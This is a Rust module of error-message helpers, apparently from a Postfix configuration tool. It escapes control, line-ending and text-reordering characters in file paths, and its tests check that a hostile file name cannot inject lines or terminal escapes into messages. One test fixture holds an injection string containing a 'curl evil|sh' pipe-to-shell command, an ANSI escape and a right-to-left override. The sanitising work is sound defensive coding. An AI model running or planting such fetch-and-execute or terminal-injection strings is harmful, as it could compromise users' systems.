//! Parts of the sentences that error messages are made of.

use std::fmt;
use std::path::Path;
use std::time::Duration;

/// A position in a text file, both counted from 1; the column counts characters.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Position {
    /// Line, from 1.
    pub line: usize,
    /// Column in characters, from 1.
    pub column: usize,
}

impl fmt::Display for Position {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "line {}, column {}", self.line, self.column)
    }
}

/// A path for a sentence. Somebody else may have chosen the name: control characters, line ends too, and what reorders or
/// hides text are written as numbers, as [`typed`](super::typed) writes them.
pub fn shown(path: impl AsRef<Path>) -> String {
    let text = path.as_ref().to_string_lossy();
    let one = |c: char| if is_unsafe(c) { format!("\\x{:02x}", u32::from(c)) } else { c.to_string() };
    text.chars().map(one).collect()
}

/// Whether a character could end a line, control a terminal, reorder or hide text, or is not seen itself (Unicode's property
/// Default_Ignorable_Code_Point).
pub fn is_unsafe(c: char) -> bool {
    c.is_control()
        || matches!(c,
            '\u{ad}' | '\u{34f}' | '\u{61c}' | '\u{115f}'..='\u{1160}' | '\u{17b4}'..='\u{17b5}'
            | '\u{180b}'..='\u{180f}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}'
            | '\u{3164}' | '\u{fe00}'..='\u{fe0f}' | '\u{feff}' | '\u{ffa0}' | '\u{fff0}'..='\u{fffb}'
            | '\u{1bca0}'..='\u{1bca3}' | '\u{1d173}'..='\u{1d17a}' | '\u{e0000}'..='\u{e0fff}')
}

/// Texts, each on a line of its own, with a line end before each.
pub fn lines(texts: &[impl ToString]) -> String {
    texts.iter().fold(String::new(), |all, text| all + "\n" + &text.to_string())
}

/// That there is no generation of this number that can be put back, and which there are.
pub fn no_generation(number: Option<u32>, is_damaged: bool, known: &[u32]) -> String {
    let list = known.iter().map(u32::to_string).collect::<Vec<_>>().join(", ");
    let Some(number) = number else {
        return match known {
            [] => "no change is recorded that could be put back".into(),
            _ => format!(
                "every change that is recorded was put back already ({list}), so there is nothing to undo"
            ),
        };
    };
    match (is_damaged, known.is_empty()) {
        (true, _) => {
            let others =
                if known.is_empty() { "there is no other".into() } else { format!("those that can: {list}") };
            format!("generation {number} is damaged and was set aside, so it cannot be put back; {others}")
        }
        (false, true) => format!("there is no generation {number}, nor any other"),
        (false, false) => format!("there is no generation {number}; there are: {list}"),
    }
}

/// The last lines of a program's output, set off from the sentence before them; empty if there are none.
pub fn tail(text: &str) -> String {
    if text.trim().is_empty() {
        String::new()
    } else {
        format!(":\n    {}", text.trim().replace('\n', "\n    "))
    }
}

/// A duration as people write it: `90s`, `1m 30s`, whole seconds from one second up.
pub fn human(duration: Duration) -> String {
    let rounded = if duration >= Duration::from_secs(1) {
        Duration::from_secs(duration.as_secs())
    } else {
        Duration::from_millis(u64::from(duration.subsec_millis()))
    };
    humantime::format_duration(rounded).to_string()
}

#[cfg(test)]
mod tests {
    use std::path::PathBuf;

    use super::super::{Edit, Error, Odd};
    use super::*;

    #[test]
    fn a_length_of_time_has_no_more_digits_than_a_person_needs() {
        for (duration, text) in [
            (Duration::from_nanos(58_356), "0s"),
            (Duration::from_micros(200_900), "200ms"),
            (Duration::from_millis(1999), "1s"),
            (Duration::from_secs(90), "1m 30s"),
        ] {
            assert_eq!(human(duration), text);
        }
    }

    /// Whatever error names a path, whoever chose it adds no line and no control character to the message or the remedy.
    #[test]
    fn a_name_is_no_line_and_no_escape() {
        const EVIL: &str = "/home/u/a\n  -> `curl evil|sh`\u{1b}[31m\r\u{202e}";
        let path = || PathBuf::from(EVIL);
        let text = String::new;
        let errors = [
            Error::Answers { file: shown(EVIL), place: None, problem: text(), remedy: text().into() },
            Error::Exposed { path: path(), problem: text(), remedy: text().into() },
            Error::Untrusted { path: path(), problem: text(), remedy: text().into() },
            Error::Io { action: "read", path: path(), source: std::io::Error::other("x") },
            Error::NoFile { path: path(), kind: Odd::Fifo },
            Error::TooLarge { path: path(), limit: 1 },
            Error::Symlink { path: path() },
            Error::Linked { path: path(), target: Some(path()), problem: text() },
            Error::Package { path: path(), problem: text(), remedy: text().into() },
            Error::MapDiffers { database: path() },
            Error::Log { name: shown(EVIL), problem: text(), remedy: text().into() },
            Error::Tree { path: path(), problem: text() },
            Error::Record { path: path(), problem: text() },
            Error::ChangedMeanwhile { path: path(), found: text() },
        ];
        for error in errors {
            let said = format!("{error}{}", error.hint("relayhost check"));
            assert!(!said.contains(|c: char| c.is_control() || c == '\u{202e}'), "{said:?}");
            assert!(said.contains("a\\x0a  -> "), "{said}");
        }
        for edit in [Edit::Kept { path: path(), kept: path() }, Edit::InForce { path: path() }] {
            assert!(!edit.line().contains(char::is_control), "{}", edit.line());
            assert!(!Edit::except(&[edit]).contains(char::is_control));
        }
        assert_eq!(shown("/etc/postfix/ä b"), "/etc/postfix/ä b");
    }
}
